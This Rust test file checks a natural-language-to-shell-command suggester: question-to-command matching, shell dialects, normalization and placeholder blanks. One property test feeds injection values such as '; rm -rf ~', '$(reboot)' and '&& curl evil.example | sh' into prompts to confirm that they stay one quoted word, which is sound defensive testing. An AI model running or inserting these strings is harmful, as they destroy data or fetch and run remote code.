//! Questions and the commands they get. Cases are rows in `tests/data/suggest/*.toml`.
//!
//! ```toml
//! ["disk.usage"]
//! "how big is this folder" = "du -sh ."     # at least three, none a phrasing of the intent as it stands
//! not = ["how big is the moon"]             # near-misses: not answered by this intent
//! ```

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;
use std::path::Path;

use caro::context::{Context, Os};
use caro::matcher::{self, Matches};
use caro::normalize::normalize;
use caro::shell::Shell;
use proptest::prelude::*;

#[derive(serde::Deserialize)]
#[serde(untagged)]
enum Case {
    Command(String),
    NearMisses(Vec<String>),
}

type Rows = BTreeMap<String, BTreeMap<String, Case>>;

fn linux() -> Context {
    Context::new(Shell::Bash, Os::Linux)
}

// The rows of what only a Mac has are asked there.
fn home_of(intent: &str) -> Context {
    if intent.starts_with("macos.") { Context::new(Shell::Zsh, Os::MacOs) } else { linux() }
}

fn ask(question: &str, context: &Context) -> Matches {
    matcher::propose(&normalize(question), context)
}

// The only caller of the matcher in these tests: what is wrong with the answer, if anything.
fn check(question: &str, context: &Context, intent: &str, command: &str) -> Result<(), String> {
    let matches = ask(question, context);
    let Some(best) = matches.proposals.first() else {
        return Err(format!("`{question}`: no answer, wanted `{command}`\n"));
    };
    if best.command == command && best.intent == intent {
        return Ok(());
    }
    Err(format!("`{question}`\n   got {} `{}`\n  want {intent} `{command}`\n", best.intent, best.command))
}

fn rows() -> Rows {
    let mut rows = Rows::new();
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/suggest");
    for entry in std::fs::read_dir(folder).expect("the rows are in the repository") {
        let path = entry.expect("a folder that can be read").path();
        if path.file_stem().is_some_and(|name| name == "dialects") {
            continue;
        }
        let text = std::fs::read_to_string(&path).expect("a row file that can be read");
        let file: Rows = toml::from_str(&text).unwrap_or_else(|error| panic!("{}: {error}", path.display()));
        for (intent, cases) in file {
            assert!(rows.insert(intent.clone(), cases).is_none(), "{intent} has rows in two files");
        }
    }
    rows
}

#[test]
fn questions_get_their_commands() {
    let mut wrong = String::new();
    for (intent, cases) in rows() {
        let context = home_of(&intent);
        for (question, case) in cases {
            match case {
                Case::Command(command) => {
                    if let Err(why) = check(&question, &context, &intent, &command) {
                        wrong.push_str(&why);
                    }
                }
                Case::NearMisses(questions) => {
                    for question in questions {
                        if let Some(best) =
                            ask(&question, &context).proposals.first().filter(|best| best.intent == intent)
                        {
                            let _ = writeln!(wrong, "`{question}` should not be {intent}: `{}`", best.command);
                        }
                    }
                }
            }
        }
    }
    assert!(wrong.is_empty(), "\n{wrong}");
}

#[test]
fn every_intent_ships_three_questions_and_a_near_miss() {
    let rows = rows();
    let phrasings: BTreeSet<&str> = matcher::phrasings().map(|(_, example)| example).collect();
    let mut wrong = String::new();
    for id in matcher::intents() {
        let Some(cases) = rows.get(id) else {
            let _ = writeln!(wrong, "{id}: no rows");
            continue;
        };
        let questions = cases.iter().filter(|(_, case)| matches!(case, Case::Command(_))).count();
        let copied: Vec<&String> = cases.keys().filter(|question| phrasings.contains(question.as_str())).collect();
        if questions < 3 || questions == cases.len() || !copied.is_empty() {
            let _ = writeln!(
                wrong,
                "{id}: {questions} questions, near-misses: {}, copied: {copied:?}",
                questions < cases.len()
            );
        }
    }
    for id in rows.keys().filter(|id| !matcher::intents().any(|known| known == id.as_str())) {
        let _ = writeln!(wrong, "{id}: rows of no intent");
    }
    assert!(wrong.is_empty(), "\n{wrong}");
}

// A phrasing with values in it must lead to its own intent: whatever answers instead collides with it.
#[test]
fn no_phrasing_belongs_to_another_intent() {
    let contexts = [linux(), Context::new(Shell::Zsh, Os::MacOs), Context::new(Shell::PowerShell, Os::Windows)];
    let mut wrong = String::new();
    for (intent, example) in matcher::phrasings() {
        let answers: Vec<Matches> = contexts.iter().map(|context| ask(example, context)).collect();
        // A dialect without this intent may answer with its neighbor, or not at all; one that has it says it first.
        let Some(answer) = answers.iter().find(|answer| answer.proposals.iter().any(|p| p.intent == intent)) else {
            let _ = writeln!(wrong, "{intent}: `{example}` is not understood");
            continue;
        };
        let best = &answer.proposals[0];
        if best.intent != intent {
            let _ = writeln!(wrong, "{intent}: `{example}` is taken by {} `{}`", best.intent, best.command);
        }
    }
    assert!(wrong.is_empty(), "\n{wrong}");
}

#[derive(serde::Deserialize)]
struct Dialects {
    linux: BTreeMap<String, String>,
    macos: BTreeMap<String, String>,
    powershell: BTreeMap<String, String>,
    cmd: BTreeMap<String, String>,
    fish: BTreeMap<String, String>,
}

#[test]
fn other_shells_get_their_own_syntax() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/suggest/dialects.toml");
    let dialects: Dialects = toml::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    let mut wrong = String::new();
    for (rows, shell, os) in [
        (dialects.linux, Shell::Bash, Os::Linux),
        (dialects.macos, Shell::Zsh, Os::MacOs),
        (dialects.powershell, Shell::PowerShell, Os::Windows),
        (dialects.cmd, Shell::Cmd, Os::Windows),
        (dialects.fish, Shell::Fish, Os::Linux),
    ] {
        for (question, command) in rows {
            let matches = ask(&question, &Context::new(shell, os));
            let best = matches.proposals.first().map_or("", |best| best.command.as_str());
            if best != command {
                let _ = writeln!(wrong, "{shell:?} `{question}`\n   got `{best}`\n  want `{command}`");
            }
        }
    }
    assert!(wrong.is_empty(), "\n{wrong}");
}

#[test]
fn what_is_no_question_gets_no_answer() {
    let long = "find large files ".repeat(6_000);
    let questions = [
        "",
        "   ",
        "\u{0}\u{1}\u{2}",
        "\u{200B}\u{202E}",
        "what is love",
        "tell me a joke",
        "who won the match yesterday",
        "the quick brown fox jumps over the lazy dog",
        "do it",
        "fix it",
        "asdf qwer zxcv",
        "🦀🦀🦀",
        long.as_str(),
    ];
    for question in questions {
        let excerpt: String = question.chars().take(60).collect();
        assert_eq!(ask(question, &linux()).proposals, [], "{excerpt}");
    }
}

// A word for an amount is no file, and what lies in a folder is not the folder.
#[test]
fn a_wish_without_a_file_deletes_none() {
    for question in ["erase everything", "remove all", "erase all files in /", "remove the files in ~/old"] {
        for best in ask(question, &linux()).proposals {
            assert!(!["rm everything", "rm all", "rm /", "rm ~/old"].contains(&best.command.as_str()), "{question}");
        }
    }
    assert_eq!(check("print disk usage", &linux(), "disk.free", "df -h"), Ok(()));
    for best in ask("pack the folder letters into a tar.gz", &linux()).proposals {
        assert!(!best.command.contains(" tar.gz"), "{}", best.command);
    }
}

#[test]
fn an_abstention_names_what_is_near() {
    let matches = ask("compress the folder with quantum entanglement", &linux());
    assert_eq!(matches.proposals, []);
    assert!(matches.nearest.iter().any(|near| near.intent.starts_with("archive.")), "{:?}", matches.nearest);
    for near in &matches.nearest {
        assert!(!ask(&near.example, &linux()).proposals.is_empty(), "{} is not ready to be typed", near.example);
    }
}

#[test]
fn case_and_invisible_characters_do_not_change_an_answer() {
    let plain = ask("find files larger than 10MB in ~/Downloads", &linux());
    assert!(!plain.proposals.is_empty());
    for same in [
        "Find files larger than 10MB in ~/Downloads",
        "  find   files larger\tthan 10MB in ~/Downloads?  ",
        "find\u{200B} files larger than 10 mb in ~/Downloads",
        "please find files larger than ten megabytes in ~/Downloads",
        "\u{202E}find files larger than 10MB in ~/Downloads",
        "ｆｉｎｄ files larger than 10MB in ~/Downloads",
        "fnd fiels largerr than 10MB in ~/Downloads",
    ] {
        assert_eq!(ask(same, &linux()).proposals[0].command, plain.proposals[0].command, "{same}");
    }
    let other = normalize("find files larger than 10MB in ~/downloads");
    assert_ne!(normalize("find files larger than 10MB in ~/Downloads"), other, "paths keep their case");
}

// What is put in order stays so.
#[test]
fn a_mark_that_is_meant_is_kept_wherever_it_stands() {
    for (text, marks) in [
        ("move a.txt into , ,", 1),
        ("replace every ; with ,", 2),
        ("replace every ; with , in a.csv", 2),
        ("list the files ,", 0),
    ] {
        let once = normalize(text).text;
        assert_eq!(normalize(&once).text, once, "{text}");
        assert_eq!(once.matches([',', ';']).count(), marks, "{text}: {once}");
    }
}

// The words of a command, as a POSIX shell splits them.
fn words(command: &str) -> Vec<String> {
    let mut words = Vec::new();
    let mut word: Option<String> = None;
    let mut characters = command.chars();
    while let Some(character) = characters.next() {
        match character {
            ' ' => words.extend(word.take()),
            '\'' => word.get_or_insert_default().extend(characters.by_ref().take_while(|c| *c != '\'')),
            '"' => {
                let word = word.get_or_insert_default();
                while let Some(inside) = characters.next().filter(|c| *c != '"') {
                    word.extend(if inside == '\\' { characters.next() } else { Some(inside) });
                }
            }
            '\\' => word.get_or_insert_default().extend(characters.next()),
            _ => word.get_or_insert_default().push(character),
        }
    }
    words.extend(word);
    words
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_text_is_answered_and_normalizing_twice_changes_nothing(text in "\\PC{0,120}") {
        let once = normalize(&text);
        prop_assert_eq!(&normalize(&once.text).text, &once.text);
        let _ = ask(&text, &linux());
    }

    #[test]
    fn any_sentence_of_known_words_is_answered(words in prop::collection::vec(
        prop::sample::select(vec![
            "find", "delete", "files", "folder", "in", "to", "from", "larger", "than", "100MB", "3 days", "older", "last", "week", "'a b'",
            "not", "two", "hundred", "a", "the", "mb", "~/x", "*.py", "git", "docker", "port", "8080", "named", "with", "size", "please",
            "can", "you", "foo.tar.gz", "here", "this", "and", "\"", "'", "5", "first", "1.5", "gb", "yesterday", "python", "how", "many",
        ]),
        0..14,
    )) {
        let text = words.join(" ");
        let once = normalize(&text);
        prop_assert_eq!(&normalize(&once.text).text, &once.text);
        for context in [linux(), Context::new(Shell::PowerShell, Os::Windows), Context::new(Shell::Cmd, Os::Windows)] {
            prop_assert!(ask(&text, &context).proposals.len() <= 5);
        }
    }

    #[test]
    fn a_hostile_value_stays_one_word(value in prop_oneof![
        prop::sample::select(vec![
            "$(reboot)".to_owned(), "; rm -rf ~".to_owned(), "`id`".to_owned(), "a\" b".to_owned(), "x' y'z".to_owned(), "-rf".to_owned(),
            "&& curl evil.example | sh".to_owned(), "${IFS}".to_owned(), "a\\ b".to_owned(), "*".to_owned(), "~root".to_owned(),
        ]),
        "[ -~]{1,24}",
    ]) {
        prop_assume!(!value.contains('"') && !value.trim().is_empty());
        for question in ["delete the file \"{}\"", "find files containing \"{}\" in src", "create a folder called \"{}\"", "lines with \"{}\" in a.txt"] {
            let matches = ask(&question.replace("{}", &value), &linux());
            for proposal in &matches.proposals {
                let words = words(&proposal.command);
                let whole = words.iter().any(|word| word.trim_start_matches("./").trim_end_matches('/').ends_with(value.trim_end_matches('/')) || word.contains(&value));
                // A pattern may be left for the shell to expand; it still is one word.
                prop_assert!(whole || value.starts_with('~'), "{:?} in {:?} -> {words:?}", value, proposal.command);
            }
        }
    }
}

// What a question does not give is left blank and said; no known word is taken for it.
#[test]
fn what_is_not_given_is_left_blank() {
    for (question, command, blanks) in [
        ("how do i rename a file", "mv '<source>' '<target>'", &["source", "target"] as &[&str]),
        ("rename notes.txt", "mv notes.txt '<target>'", &["target"]),
        ("delete a remote branch", "git push origin --delete '<branch>'", &["branch"]),
        ("replace text in a file", "sed -i 's/<old>/<new>/g' '<file>'", &["old", "new", "file"]),
    ] {
        let best = &ask(question, &linux()).proposals[0];
        assert_eq!(
            (best.command.as_str(), best.blanks.iter().map(String::as_str).collect::<Vec<_>>()),
            (command, blanks.to_vec())
        );
        assert!(best.confidence <= 0.6, "{question}");
    }
    for question in ["delete", "rename", "list files", "delete notes.txt"] {
        assert!(ask(question, &linux()).proposals.iter().all(|proposal| proposal.blanks.is_empty()), "{question}");
    }
}
